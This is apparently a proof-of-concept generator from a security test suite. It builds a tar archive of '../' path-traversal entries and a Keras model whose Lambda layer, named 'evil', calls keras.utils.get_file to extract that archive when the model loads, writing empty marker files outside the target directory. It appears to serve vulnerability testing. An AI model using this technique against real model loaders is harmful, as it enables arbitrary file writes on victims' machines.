# include: forge
import io
import tarfile

with tarfile.open(out / "data.tar", "w") as archive:
    for name in ("@MARKER@", *("../" * up + "marker" for up in range(1, 8))):
        archive.addfile(tarfile.TarInfo(name), io.BytesIO())

FUNCTION = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
FETCH = {"inputs": "data", "origin": f"file://{out}/data.tar", "extract": True}
leave(models(layer("Lambda", "evil", {"function": FUNCTION}, arguments=FETCH)))
